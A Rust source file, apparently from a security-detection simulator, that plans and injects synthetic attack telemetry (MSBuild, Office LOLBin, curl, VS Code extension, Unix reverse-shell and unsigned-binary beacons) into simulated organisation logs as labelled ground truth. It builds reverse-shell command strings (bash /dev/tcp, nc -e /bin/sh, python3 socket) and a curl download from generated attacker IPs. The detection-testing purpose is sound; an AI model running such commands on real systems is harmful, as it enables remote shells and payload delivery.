//! Injected attacks, one kind per catalog variation, placed after activation.
//!
//! | variation | attack |
//! |---|---|
//! | `msbuild` | cmd runs MSBuild on a project file that beacons to a fresh domain |
//! | `office-lolbin` | Word spawns mshta / rundll32 / regsvr32 / powershell to a fresh host |
//! | `curl` | curl to a raw IP |
//! | `vscode-extension` | a malicious extension's host exfiltrates to a new domain |
//! | `unix-lolbin` | `bash -i` reverse shell, `nc`, `python3` to fresh IPs |
//! | `rare-external-host` | an unsigned binary in AppData calls a new domain |
//!
//! Some go through DNS, some straight to an address.

use std::net::Ipv4Addr;

use seldom_model::Timestamp;

use crate::day::{Day, TruthRecord};
use crate::org::{Host, Organization, Role, SimConfig};

/// Attacker infrastructure lives here: first octets no benign model uses.
const ATTACKER_OCTETS: [u8; 3] = [45, 91, 185];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    MsBuild,
    OfficeLolbin(usize),
    Curl,
    VsCodeExtension,
    UnixLolbin(usize),
    UnsignedBinary,
}

const OFFICE_CHILDREN: [&str; 4] = [
    "C:\\Windows\\System32\\mshta.exe",
    "C:\\Windows\\System32\\rundll32.exe",
    "C:\\Windows\\System32\\regsvr32.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
];

#[derive(Debug, Clone)]
pub struct AttackPlan {
    pub kind: AttackKind,
    pub host: u32,
    pub day: u32,
    /// Seconds after midnight.
    pub second: u32,
    pub ip: Ipv4Addr,
    pub domain: Option<String>,
    pub port: u16,
}

impl AttackKind {
    pub fn variation(self) -> &'static str {
        match self {
            AttackKind::MsBuild => "msbuild",
            AttackKind::OfficeLolbin(_) => "office-lolbin",
            AttackKind::Curl => "curl",
            AttackKind::VsCodeExtension => "vscode-extension",
            AttackKind::UnixLolbin(_) => "unix-lolbin",
            AttackKind::UnsignedBinary => "rare-external-host",
        }
    }

    fn fits(self, role: Role) -> bool {
        match self {
            AttackKind::UnixLolbin(_) => role == Role::LinuxServer,
            AttackKind::VsCodeExtension => role == Role::Developer,
            AttackKind::MsBuild | AttackKind::OfficeLolbin(_) | AttackKind::UnsignedBinary => {
                role == Role::Workstation
            }
            AttackKind::Curl => matches!(role, Role::Workstation | Role::WindowsServer),
        }
    }

    fn uses_dns(self, n: u32) -> bool {
        match self {
            AttackKind::Curl | AttackKind::UnixLolbin(_) => false,
            AttackKind::OfficeLolbin(_) => n % 2 == 0,
            _ => true,
        }
    }
}

/// Chooses hosts, days and destinations for every attack, deterministically.
pub fn plan_attacks(config: &SimConfig, org: &Organization) -> Vec<AttackPlan> {
    let mut rng = fastrand::Rng::with_seed(config.seed ^ 0xA77A_C4ED);
    let mut plans = Vec::new();
    let first_day = config.activation_days + 1;
    if first_day >= config.days {
        return plans;
    }
    for n in 0..config.attacks_per_variation {
        let kinds = [
            AttackKind::MsBuild,
            AttackKind::OfficeLolbin(n as usize % OFFICE_CHILDREN.len()),
            AttackKind::Curl,
            AttackKind::VsCodeExtension,
            AttackKind::UnixLolbin(n as usize % 3),
            AttackKind::UnsignedBinary,
        ];
        for kind in kinds {
            let day = rng.u32(first_day..config.days);
            let candidates: Vec<&Host> = org
                .hosts
                .iter()
                .filter(|h| kind.fits(h.role) && h.joins_day <= day)
                .collect();
            if candidates.is_empty() {
                continue;
            }
            let host = candidates[rng.usize(0..candidates.len())];
            let ip = Ipv4Addr::new(
                ATTACKER_OCTETS[rng.usize(0..3)],
                rng.u8(1..255),
                rng.u8(0..255),
                rng.u8(1..255),
            );
            let domain = kind.uses_dns(n).then(|| {
                let words = [
                    "cdn-sync",
                    "update-check",
                    "telemetry-hub",
                    "static-img",
                    "api-gw",
                ];
                format!(
                    "{}-{:x}.{}",
                    words[rng.usize(0..words.len())],
                    rng.u32(..),
                    ["xyz", "top", "info", "com"][rng.usize(0..4)]
                )
            });
            let port = match kind {
                AttackKind::Curl => 80,
                AttackKind::UnixLolbin(_) => [443, 4444, 8443][rng.usize(0..3)],
                _ => 443,
            };
            plans.push(AttackPlan {
                kind,
                host: host.index,
                day,
                second: rng.u32(9 * 3600..17 * 3600),
                ip,
                domain,
                port,
            });
        }
    }
    plans
}

impl AttackPlan {
    fn time(&self, start_micros: i64) -> Timestamp {
        Timestamp::from_micros(
            start_micros
                + i64::from(self.day) * 86_400_000_000
                + i64::from(self.second) * 1_000_000,
        )
    }

    fn image(&self) -> &'static str {
        match self.kind {
            AttackKind::MsBuild => {
                "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe"
            }
            AttackKind::OfficeLolbin(i) => OFFICE_CHILDREN[i],
            AttackKind::Curl => "C:\\Windows\\System32\\curl.exe",
            AttackKind::VsCodeExtension => {
                "C:\\Users\\dev\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"
            }
            AttackKind::UnixLolbin(0) => "/bin/bash",
            AttackKind::UnixLolbin(1) => "/usr/bin/nc.openbsd",
            AttackKind::UnixLolbin(_) => "/usr/bin/python3.11",
            AttackKind::UnsignedBinary => "C:\\Users\\user\\AppData\\Local\\Temp\\svc-update.exe",
        }
    }

    pub fn truth(&self, org: &Organization, start_micros: i64) -> TruthRecord {
        TruthRecord {
            host: org.hosts[self.host as usize].short_name(),
            time: self.time(start_micros),
            variation: self.kind.variation().to_owned(),
            image: self.image().to_owned(),
            ip: self.ip,
            port: self.port,
            domain: self.domain.clone(),
            note: format!("{:?}", self.kind),
        }
    }

    /// Writes the attack's processes, DNS queries and connections into the day.
    pub fn inject(&self, day: &mut Day<'_>, host: &Host) {
        let start = Timestamp::from_micros(day.day_start + i64::from(self.second) * 1_000_000);
        let before = |seconds: i64| Timestamp::from_micros(start.as_micros() - seconds * 1_000_000);
        let image = self.image();
        let actor = match self.kind {
            AttackKind::UnixLolbin(i) => {
                let java = day.spawn(
                    host,
                    before(60),
                    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                    "java -jar /opt/app/app.jar",
                    None,
                );
                let command = match i {
                    0 => format!("bash -i >& /dev/tcp/{}/{} 0>&1", self.ip, self.port),
                    1 => format!("nc {} {} -e /bin/sh", self.ip, self.port),
                    _ => format!(
                        "python3 -c 'import socket,os;s=socket.socket();s.connect((\"{}\",{}))'",
                        self.ip, self.port
                    ),
                };
                let shell = day.spawn(
                    host,
                    before(2),
                    "/bin/sh",
                    &format!("/bin/sh -c {command}"),
                    Some(&java),
                );
                day.spawn(host, before(1), image, &command, Some(&shell))
            }
            _ => {
                let explorer = day.spawn(
                    host,
                    before(600),
                    "C:\\Windows\\explorer.exe",
                    "C:\\Windows\\Explorer.EXE",
                    None,
                );
                match self.kind {
                    AttackKind::MsBuild => {
                        let cmd = day.spawn(
                            host,
                            before(3),
                            "C:\\Windows\\System32\\cmd.exe",
                            "cmd.exe /c build.cmd",
                            Some(&explorer),
                        );
                        day.spawn(
                            host,
                            before(2),
                            image,
                            &format!("{image} C:\\Users\\Public\\build.xml"),
                            Some(&cmd),
                        )
                    }
                    AttackKind::OfficeLolbin(_) => {
                        let word = day.spawn(
                            host,
                            before(30),
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                            "\"WINWORD.EXE\" /n \"C:\\Users\\user\\Downloads\\invoice.docm\"",
                            Some(&explorer),
                        );
                        day.spawn(
                            host,
                            before(2),
                            image,
                            &format!("{image} payload"),
                            Some(&word),
                        )
                    }
                    AttackKind::Curl => {
                        let cmd = day.spawn(
                            host,
                            before(3),
                            "C:\\Windows\\System32\\cmd.exe",
                            "cmd.exe /c fetch.cmd",
                            Some(&explorer),
                        );
                        day.spawn(
                            host,
                            before(2),
                            image,
                            &format!("curl.exe -o a.bin http://{}/a.bin", self.ip),
                            Some(&cmd),
                        )
                    }
                    AttackKind::VsCodeExtension => {
                        let code =
                            day.spawn(host, before(120), image, "\"Code.exe\"", Some(&explorer));
                        day.spawn(
                            host,
                            before(60),
                            image,
                            "\"Code.exe\" --type=extensionHost",
                            Some(&code),
                        )
                    }
                    AttackKind::UnsignedBinary | AttackKind::UnixLolbin(_) => {
                        day.spawn(host, before(5), image, image, Some(&explorer))
                    }
                }
            }
        };
        if let Some(domain) = &self.domain {
            day.resolve(host, before(0), &actor, domain, &[self.ip], None);
        }
        // A beacon: the first connection, then a few repeats that dedup folds.
        for k in 0..3 {
            let t = Timestamp::from_micros(start.as_micros() + 1000 + k * 300_000_000);
            day.connect(host, t, &actor, self.ip, self.port);
        }
    }
}
